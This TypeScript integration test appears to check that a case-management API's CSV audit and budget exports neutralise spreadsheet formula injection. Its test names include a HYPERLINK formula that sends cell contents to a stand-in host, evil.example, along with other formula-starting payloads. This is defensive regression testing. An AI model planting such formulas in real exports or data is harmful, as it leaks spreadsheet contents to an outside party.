import { bearer, TestApi } from '../support/api';
import { VALID_BODIES } from '../support/command-bodies';

/** RFC 4180 rows: quoted fields may hold commas, quotes (doubled) and line breaks. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [[]];
  const field = /("((?:[^"]|"")*)"|[^,\r\n]*)(,|\r\n|$)/gy;
  for (let match = field.exec(text); match && match.index < text.length; match = field.exec(text)) {
    rows.at(-1)!.push(match[2] !== undefined ? match[2].replaceAll('""', '"') : match[1]);
    if (match[3] === '\r\n') rows.push([]);
  }
  return rows.filter((row) => row.length > 1);
}

/**
 * Issue 12: the CSV export was open to formula injection — a value starting with =, +, -, @ went out
 * as a formula, and an actor's name comes from the token. OWASP's rule: such a cell (also one
 * starting with a tab or a carriage return) is prefixed with a single quote, so it shows as text.
 */
describe('CSV export cells that would start a formula', () => {
  let api: TestApi;
  beforeAll(async () => (api = await TestApi.start()));
  afterAll(() => api.stop());

  const NAMES = ['=HYPERLINK("https://evil.example/?"&A1,"Öppna")', '+SUM(1+1)', '-2+3', '@SUM(A1)', '\t=1+1', '\r=1+1'];

  it('are neutralised with a leading single quote, and read back as the text sent', async () => {
    const [applicant, ...registrators] = NAMES;
    const submitted = await api
      .http()
      .post('/cases')
      .set(await bearer({ roles: ['organisation'], tenant: 'linkoping', org: '822004-0417', name: applicant }))
      .send(VALID_BODIES['submit-application']);
    expect(submitted.status).toBe(201);
    const caseId = submitted.body.id as string;
    // Assigning the officer again and again: one event per hostile actor name.
    await api
      .http()
      .post(`/cases/${caseId}/commands/register`)
      .set(await bearer({ roles: ['registrator'], tenant: 'linkoping', name: 'Registrator' }))
      .send(VALID_BODIES.register)
      .expect(200);
    for (const name of registrators) {
      await api
        .http()
        .post(`/cases/${caseId}/commands/assign-officer`)
        .set(await bearer({ roles: ['chef'], tenant: 'linkoping', name }))
        .send(VALID_BODIES['assign-officer'])
        .expect(200);
    }
    const csv = await api
      .http()
      .get(`/audit/cases/${caseId}/export?format=csv`)
      .set(await bearer({ roles: ['auditor'], tenant: 'linkoping' }));
    const [header, ...rows] = parseCsv(csv.text);
    const actorName = header.indexOf('actorName');
    expect(rows.map((row) => row[actorName])).toEqual(expect.arrayContaining(NAMES.map((name) => `'${name}`)));
    for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  it("neutralise an organisation's name in the budget's CSV (semicolons, for Swedish spreadsheets)", async () => {
    const [name] = NAMES;
    const body = VALID_BODIES['submit-application'] as { organisation: object };
    await api
      .http()
      .post('/cases')
      .set(await bearer({ roles: ['organisation'], tenant: 'linkoping', org: '822004-0417' }))
      .send({ ...body, organisation: { ...body.organisation, name } })
      .expect(201);
    const csv = await api
      .http()
      .get('/budget?year=2023&format=csv')
      .set(await bearer({ roles: ['chef'], tenant: 'linkoping' }));
    const cells = csv.text.split('\r\n').flatMap((row) => row.split(';'));
    expect(cells).toContain(`"'${name.replaceAll('"', '""')}"`);
    for (const cell of cells) expect(cell.replace(/^"/, '')).not.toMatch(/^[=+@\t\r]/);
  });
});
